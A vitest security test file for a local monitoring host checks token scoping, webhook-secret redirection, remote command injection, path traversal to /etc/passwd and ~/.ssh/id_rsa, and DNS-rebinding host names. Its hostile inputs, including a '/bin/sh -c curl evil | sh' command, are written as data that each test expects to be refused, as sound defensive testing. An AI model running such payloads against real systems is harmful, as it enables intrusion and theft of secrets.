import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import { startTestHost, type TestHost } from '../helpers/running-host';
import { tempDir } from '../helpers/temp-dir';

/** A webhook receiver that records what reaches it. */
async function receiver(): Promise<{ url: string; bodies: string[]; server: Server }> {
  const bodies: string[] = [];
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk) => (body += chunk));
    req.on('end', () => {
      bodies.push(`${req.url} ${body}`);
      res.end('ok');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, bodies, server };
}

function get(host: TestHost, path: string, headers: Record<string, string> = {}) {
  return new Promise<{ status: number; text: string }>((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port: host.host.port, path, headers }, (res) => {
      let text = '';
      res.on('data', (chunk) => (text += chunk));
      res.on('end', () => resolve({ status: res.statusCode!, text }));
    });
    req.on('error', reject);
    req.end();
  });
}

describe('a local process holding a narrow token, or the admin token', () => {
  let host: TestHost;
  let legit: Awaited<ReturnType<typeof receiver>>;
  let attacker: Awaited<ReturnType<typeof receiver>>;
  let data: string;
  let privateFile: string;

  const rpc = (token: string, method: string, input?: unknown) =>
    fetch(`${host.origin}/api/v1/rpc`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: JSON.stringify({ method, input }) });

  beforeAll(async () => {
    legit = await receiver();
    attacker = await receiver();
    data = join(tempDir(), 'datasets');
    mkdirSync(data);
    writeFileSync(join(data, 'ok.csv'), 'x\n1\n2\n');
    privateFile = join(tempDir(), 'id_rsa.csv');
    writeFileSync(privateFile, 'key\nPRIVATE-KEY-MATERIAL\n');
    symlinkSync(privateFile, join(data, 'innocent.csv'));
    host = await startTestHost({
      config: {
        monitor: { gpu: { enabled: false } },
        drift: { dataFolders: [data] },
        alerts: { channels: [{ name: 'ops', type: 'webhook', url: `${legit.url}/hooks/T0/SECRET-PATH`, minSeverity: 'INFO' }] },
      },
    });
  });
  afterAll(async () => {
    await host.stop();
    legit.server.close();
    attacker.server.close();
  });

  it('a training script\'s ingest token and Prometheus\'s metrics token do only their one thing', async () => {
    const { ingest, metrics } = host.tokens;
    expect((await rpc(ingest, 'config.update', { monitor: { intervalMs: 5000 } })).status).toBe(403);
    expect((await rpc(metrics, 'config.get')).status).toBe(403);
    expect((await get(host, '/metrics', { authorization: `Bearer ${ingest}` })).status).toBe(403);
    const post = (token: string) =>
      fetch(`${host.origin}/api/v1/ingest`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: '{"model":"m","predictions":1}' });
    expect((await post(metrics)).status).toBe(403);
    for (const token of [ingest, metrics]) {
      const opened = await new Promise<boolean>((resolve) => {
        const socket = new WebSocket(`ws://127.0.0.1:${host.host.port}/api/ws`, ['vigil', `vigil.bearer.${token}`]);
        socket.on('open', () => resolve(true));
        socket.on('error', () => resolve(false));
      });
      expect(opened).toBe(false);
    }
    // And the legitimate uses still work.
    expect((await post(ingest)).status).toBe(202);
    expect((await get(host, '/metrics', { authorization: `Bearer ${metrics}` })).status).toBe(200);
    expect(host.app.config.value.monitor.intervalMs).not.toBe(5000);
  });

  it('the admin token cannot point a saved secret at a new destination to read it', async () => {
    const saved = ((await (await rpc(host.token, 'config.get')).json()) as { value: { alerts: { channels: { url: string }[] } } }).value;
    const masked = saved.alerts.channels[0]!;
    expect(masked.url).not.toContain('SECRET-PATH');
    const moved = await rpc(host.token, 'config.update', { alerts: { channels: [{ ...masked, url: masked.url.replace(legit.url, attacker.url) }] } });
    expect(moved.status).toBe(400);
    expect(((await moved.json()) as { error: { message: string } }).error.message).toMatch(/enter the secret again/);
    const test = await rpc(host.token, 'alerts.test', { channel: 'ops' });
    expect(test.status).toBe(200);
    await expect.poll(() => legit.bodies.length, { timeout: 10_000 }).toBeGreaterThan(0);
    expect(legit.bodies[0]).toMatch(/^\/hooks\/T0\/SECRET-PATH /);
    expect(attacker.bodies).toEqual([]);
  });

  it('the admin token cannot add a command, nor change the program Vigil runs for GPUs, over the network', async () => {
    for (const patch of [
      { alerts: { actions: [{ name: 'x', action: 'command', command: ['/bin/sh', '-c', 'curl evil | sh'] }] } },
      { monitor: { gpu: { nvidiaSmi: '/tmp/evil' } } },
      { alerts: { cacheFolders: ['/home'] } },
    ]) {
      const res = await rpc(host.token, 'config.update', patch);
      expect(res.status).toBe(400);
      expect(((await res.json()) as { error: { message: string } }).error.message).toMatch(/cannot be changed over the network/);
    }
    expect(readFileSync(join(host.dataDir, 'config.json'), 'utf8')).not.toMatch(/evil|\/home/);
  });

  it('the admin token cannot read files outside the UI folder or drift.dataFolders, however the path is spelled', async () => {
    // Enough levels to reach / from any temp folder: a check that let one through would find /etc/passwd.
    const up = '..%2f'.repeat(16);
    for (const path of ['/../../../../etc/passwd', '/%2e%2e/%2e%2e/etc/passwd', `/${up}etc%2fpasswd`, `/${'%2e%2e%2f'.repeat(16)}etc%2fpasswd`, '//etc/passwd']) {
      const res = await get(host, path);
      expect([400, 404], path).toContain(res.status);
      expect(res.text).not.toMatch(/root:/);
    }
    for (const path of [privateFile, join(data, 'innocent.csv'), join(data, '..', 'id_rsa.csv'), '/etc/passwd', '~/.ssh/id_rsa']) {
      const res = await rpc(host.token, 'drift.columns', { reference: { path: join(data, 'ok.csv') }, current: { path } });
      expect(res.status, path).toBe(400);
      expect(await res.text()).not.toContain('PRIVATE-KEY-MATERIAL');
    }
    expect((await rpc(host.token, 'drift.columns', { reference: { path: join(data, 'ok.csv') }, current: { path: join(data, 'ok.csv') } })).status).toBe(200);
  });

  it('no name but loopback reaches the host, whatever token comes with it', async () => {
    for (const name of ['attacker.test', `attacker.test:${host.host.port}`, '127.0.0.1.attacker.test', '0x7f000001']) {
      expect((await get(host, '/metrics', { host: name, authorization: `Bearer ${host.tokens.metrics}` })).status, name).toBe(403);
    }
  });
});
